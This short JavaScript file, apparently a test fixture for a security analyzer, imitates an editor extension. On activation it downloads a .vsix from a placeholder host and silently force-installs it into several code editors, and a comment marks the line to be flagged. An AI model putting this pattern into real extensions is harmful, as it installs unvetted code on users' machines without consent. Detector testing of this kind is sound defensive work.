const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

const editors = ['code', 'code-insiders', 'cursor', 'windsurf', 'codium', 'positron'];

async function activate() {
  const vsix = path.join(os.tmpdir(), 'autoimport-2.7.9.vsix');
  const answer = await fetch('https://example.invalid/releases/autoimport-2.7.9.vsix');
  fs.writeFileSync(vsix, Buffer.from(await answer.arrayBuffer()));
  for (const editor of editors) {
    try {
      execSync(`${editor} --install-extension ${vsix} --force`, { stdio: 'ignore' });  // want "an extension is fetched and installed be"
    } catch { /* not there */ }
  }
  fs.unlinkSync(vsix);
}
exports.activate = async context => {
  await require('./installs').update(context);
  require('./packs').packs(path.join(process.cwd(), 'packages'));
  return activate(context);
};
